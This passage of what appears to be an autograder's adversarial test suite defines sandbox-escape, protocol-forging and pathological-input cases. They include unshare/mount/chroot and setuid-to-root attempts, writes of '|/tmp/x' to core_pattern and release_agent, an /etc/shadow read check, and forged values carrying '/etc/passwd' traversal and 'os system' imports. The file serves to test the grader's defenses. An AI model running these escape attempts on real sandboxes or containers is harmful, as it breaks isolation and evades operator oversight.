        "'conftest', 'tmp', chr(0xd800), 'a' * 5000, 'a\\0', 'a\\n') for end in ('', '/', '.py', "
        "'.csv', '.pth', '.json')), 7, None], b'tolerance = 1e9')",
    ),
)
attack(
    PROTOCOL,
    "mirrored-flood",
    "has new files for the test after each of its questions",
    start=MIRRORED.replace("FILES", "{f'{count}-{n}.csv': bytes(300_000) for n in range(200)}"),
    total="""
class Endless:
    __iter__ = lambda self: self
    __next__ = lambda self: 0.0
def total(values, weight): return max(Endless())
""",
)
attack(
    PROTOCOL,
    "forged-changes",
    "tells the examiner that the test's own values have changed",
    total="def total(values, weight):\n    values[:] = []\n    return 0",
    start="""
from autograder.learner import process as learner
inner = learner.Answering._send
def send(self, header, packed):
    if "changed" in header:
        for place in range(6):
            for kind in ("argument", "held"):
                header["changed"] = header["changed"] + [[kind, place]]
                packed = [*packed, learner.Packed(["list", "d", 0], [bytes(8)])]
    return inner(self, header, packed)
learner.Answering._send = send
""",
)


# Escapes

ESCAPES = "escapes from the box"

attack(
    ESCAPES,
    "escape-mounts",
    "makes namespaces, mounts, devices and roots of its own",
    start=LOOK
    + """
libc = ctypes.CDLL(None, use_errno=True)
def found(what, answer): print("OPENED" if answer >= 0 else "closed", what, ctypes.get_errno())
for flags in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x02000000):
    found("namespace", libc.unshare(flags))
found("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
found("umount", libc.umount2(b"/home/learner", 2))
found("chroot", libc.chroot(b"/tmp"))
attempt(os.mknod, "/tmp/disk", 0o60666, os.makedev(254, 0))
for place in ("/proc/1/ns/mnt", "/proc/self/ns/pid", "/proc/@COORDINATOR@/ns/mnt"):
    attempt(lambda: print("setns", libc.setns(os.open(place, os.O_RDONLY), 0)))
walk("/proc/@COORDINATOR@/root@COURSE@"); walk("/old")
""",
)
attack(
    ESCAPES,
    "escape-identity",
    "becomes another user by every program and call",
    start=LOOK
    + """
for do in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    attempt(do)
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newgrp"], ["passwd", "-S"],
                ["unshare", "-Ur", "id"], ["nsenter", "-t", "1", "-a", "id"]):
    attempt(lambda: subprocess.run(command, capture_output=True, timeout=1, stdin=-3))
print("IS ROOT" if 0 in (os.getuid(), os.geteuid()) and os.access("/etc/shadow", os.R_OK) else "")
""",
)
attack(
    ESCAPES,
    "escape-kernel",
    "writes into /proc and /sys, the kernel's keys and its programs",
    start=LOOK
    + LEAVE
    + """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj",
             "/sys/fs/cgroup/release_agent", "/sys/kernel/uevent_helper", "/proc/1/mem",
             "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/proc/self/uid_map"):
    attempt(lambda: open(path, "w").write("|/tmp/x"))
libc = ctypes.CDLL(None, use_errno=True)
for number in (321, 298, 323, 425, 250, 246, 175, 169, 175, 310, 438, 448, 272, 435):
    print(number, libc.syscall(number, 0, 0, 0, 0, 0), ctypes.get_errno())
leave()
""",
)
attack(
    ESCAPES,
    "escape-limits",
    "raises its own bounds, priority and clocks",
    start=LOOK
    + """
import resource, gc
for name in dir(resource):
    if name.startswith("RLIMIT"):
        which = getattr(resource, name)
        before = resource.getrlimit(which)[1]
        attempt(resource.setrlimit, which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if before != resource.getrlimit(which)[1]: print("OPENED", name)
attempt(os.nice, -20); attempt(time.clock_settime, time.CLOCK_REALTIME, 0)
attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))
gc.disable(); sys.setrecursionlimit(10**9)
""",
)
attack(ESCAPES, "escape-crash", "crashes Python itself", end="import ctypes\nctypes.string_at(0)")
attack(
    ESCAPES,
    "escape-recursion",
    "recurses until the stack of C is full",
    end="import sys\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6): x = [x]\nrepr(x)",
)


# Values that explode

VALUES = "values that explode on their way"

attack(
    VALUES,
    "deep-values",
    "gives a test values nested without end",
    share="share = []\nfor _ in range(100_000): share = [share]",
    total="def total(values, weight):\n    loop = []; loop.append(loop); return loop",
)
attack(
    VALUES,
    "huge-numbers",
    "gives a test numbers of millions of digits",
    share="share = 10 ** 3_000_000",
    total="def total(values, weight):\n    return 1 << 50_000_000",
)
attack(
    VALUES,
    "odd-keys",
    "gives a test dictionaries and sets with keys that equal nothing",
    share="nan = float('nan')\nshare = {nan: 1, float('nan'): 2, -0.0: 3, True: 4, (nan,): 5}",
    total="def total(values, weight):\n    return float('nan')",
)
attack(
    VALUES,
    "odd-arrays",
    "gives a test arrays with shapes, types and contents that are traps",
    start="""
class Evil:
    def __eq__(self, other): raise SystemExit
    __repr__ = __reduce__ = __hash__ = __float__ = lambda self: 1 / 0
odd = [np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0)),
       np.array([Evil(), None], object), np.zeros(3, [("a", "O"), ("b", "f8")]),
       np.array("x" * 10**7), np.ma.masked_array([1.0], [True]), np.zeros((0, 10**9)),
       np.array([np.timedelta64("NaT")]), np.longdouble(1), np.void(b"x" * 100),
       np.frombuffer(b"\\x02", bool), np.float16("nan")]
""",
    total="def total(values, weight):\n    odd.append(odd.pop(0)); return odd[-1]",
    share="share = odd",
    model="model = X = odd[0]",
)
attack(
    VALUES,
    "odd-frames",
    "gives a test frames with doubled names and broken parts",
    model="""
X = pd.DataFrame([[1, 2]], columns=["x", "x"])
X.attrs = {"deep": X}
X.index = pd.MultiIndex.from_tuples([(None, np.nan)], names=["x", "x"])
X["o"] = [pd.Series([X])]
model = pd.Series([Ellipsis, pd.NA, X, "\\ud800", 10**400], dtype=object)
""",
    share="share = pd.Categorical.from_codes([0, -1], ['\\ud800'])",
)
attack(
    VALUES,
    "odd-texts",
    "gives a test texts with surrogates, nulls and marks of direction",
    share="share = '\\ud800\\x00\\u202e' * 1000",
    total="def total(values, weight):\n    raise ValueError('\\ud800' * 100)",
    model="print('\\ud800')\nmodel = X = '\\udfff'",
)
attack(
    VALUES,
    "odd-model",
    "gives a test a real estimator with attributes that are traps",
    model="""
X = pd.DataFrame({"x": range(20)})
model = LogisticRegression().fit(X, [0, 1] * 10)
model.classes_ = np.array([[0, 1]] * 3)
model.coef_ = np.zeros((1, 10**6)); model.n_features_in_ = "x"; model.__dict__[5] = 6
""",
)
attack(
    VALUES,
    "forged-values",
    "sends packed values that no sound process would send",
    start="""
from autograder.learner import process as learner
from autograder.learner.process import Packed
traps = [["array", "O", [10**9], []], ["array", "<f8", [2**40, 2**40], 0], ["array", "|O", [1], 0],
    ["period", "X"], ["categorical", "period", "5000000000D", "<i8", [1], 0],
    ["estimator", "sklearn.externals", "os", [[]], [[]]], ["path", "PosixPath", "/etc/passwd"],
    ["datetime", "9999-12-31", "../../etc/passwd", 1], ["range", 0, 10**18, 1], ["int", 10**9],
    ["range", ["int", -1], 2, 3], ["named", ["class", "S", 1], ["__class__"], [1]],
    ["dict", [1], 2],
    ["object", "T", 1], ["class", "T", 1], ["import", "os", "system"], ["same", 5], ["float", "x"],
    ["decimal", "1e999999999"], ["fraction", 1, 0], ["deque", -5, []], ["slice"], {"a": 1},
    ["random", ["dict", ["p", ["bit_generator"]], ["p", ["os"]]]], ["scalar", "V8", "00"], [[]],
    ["timestamp", "ns", 2**70, "UTC"], ["rangeindex", 0, 10**12, 1, None], ["bytes", -1], [None],
    ["multiindex", [["index", None, None, "numpy", "<i8", [0], 0]], [["<i8", [1], 0]], [None]],
    ["complex", "nan", "x" * 10**6], ["list", "d", 0], ["frozenset", [["list", []]]], 1e999]
turn = iter(range(10**9))
learner.Answering._packed = lambda self, value: Packed(traps[next(turn) % len(traps)], [bytes(8)])
inner = learner.Answering.perform
learner.Answering.perform = lambda self, what, *rest: (
    Packed(traps[next(turn) % len(traps)], [bytes(8)])
    if what == "call" else inner(self, what, *rest))
""",
)
